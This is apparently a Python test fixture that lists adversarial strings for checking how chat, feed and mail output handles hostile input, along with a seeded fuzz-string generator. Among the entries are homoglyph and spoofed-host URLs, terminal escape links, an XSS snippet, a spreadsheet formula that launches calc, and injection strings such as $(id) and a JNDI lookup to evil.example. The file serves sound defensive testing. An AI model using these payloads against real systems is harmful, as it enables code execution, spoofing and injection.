"""Texts that have broken chats, feeds and mails elsewhere, by their number in our list of bad inputs."""

from __future__ import annotations

import random

TRICKS: dict[str, str] = {
    "B60 order reversed": "fixed in 6.1.\u202e071\u202c-1, CVE-2026-\u202e13413",
    "B61 zero width": "CVE\u200b-2026\u200d-314\ufeff31",
    "B62 Cyrillic": "\u0421VE-2026-31431",
    "B63 hyphens": "CVE\u20112026\u201131431",
    "B64 digits": "CVE-\u0662\u0660\u0662\u0666-\uff13\uff11\uff14\uff13\uff11",
    "B65 hosts": "git.kerneI.org, xn--krnel-hya.org, k\u0435rnel.org",
    "B66 user in an address": "https://git.kernel.org@evil.example/",
    "B67 lone surrogate": "a\ud83d b\udc00",
    "B68 controls": "a\x00b\x08c\x0bd\x1be\ufffef",
    "B69 pile of marks": "Z" + "\u0301\u0316" * 5000,
    "B70 terminal": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07here\x1b]8;;\x07",
    "B71 line of a log": 'fixed\n2026-05-01T00:00:00Z ERROR {"token": "x"}\r\nfake',
    "B72 everyone": "@room @everyone @here @channel @username <!channel> <!here> <@U0123>",
    "B72 a person": "[x](tg://user?id=1) https://matrix.to/#/@a:evil.example tg://resolve?domain=x",
    "B73 Markdown": "[safe](https://evil.example) ![](https://evil.example/b) ||spoiler|| *un _closed `mark",
    "B74 mail address": "<a@b.c> reported by Ada <ada@example.org>",
    "B75 code": "if (a < b && c > d) return -EINVAL; /* & */",
    "B76 HTML": "<p>x</p><ul><li>y</ul><br><script>alert(1)</script><img src=x onerror=y>",
    "B77 MarkdownV2": "- . ! ( ) # + = { } | ~ > \\",
    "B78 emoji at the end": "x" * 470 + "\U0001f9df\u200d\u2642\ufe0f" * 10,
    "B79 long": "subject " * 5000,
    "B80 formula": "=cmd|' /C calc'!A0",
    "B81 templates": "$(id) `id` ${jndi:ldap://evil.example/a} {{7*7}} %(x)s {0.__class__}",
    "commands": "/start /forget@other_bot yes, path /dev/null and net/ipv4/esp4.c",
    "tags": "#kernel #ядро $USD #123 пример.рф a.xn--p1ai",
}
PIECES = [
    "@", "@room", "://", "t.me/x", "/x", "#a", "$b", "`", "*", "_", "[x](y)", "\u202e", "\u200d", "\u2060", "\ud800",
    "<b>", "</b>", "&amp;", "||", "\n", "\x00", "\x1b", " ", "\U0001f9df", "\u0301",
]  # fmt: skip


def generated(count: int, seed: int) -> list[str]:
    """Strings of every plane, rich in what chats react to; the same ones for a seed."""
    chance = random.Random(seed)  # a test's strings, no secret
    return [
        "".join(
            chance.choice(PIECES) if chance.random() < 0.4 else chr(chance.randrange(0x11_0000))
            for _ in range(chance.randint(1, 14))
        )
        for _ in range(count)
    ]
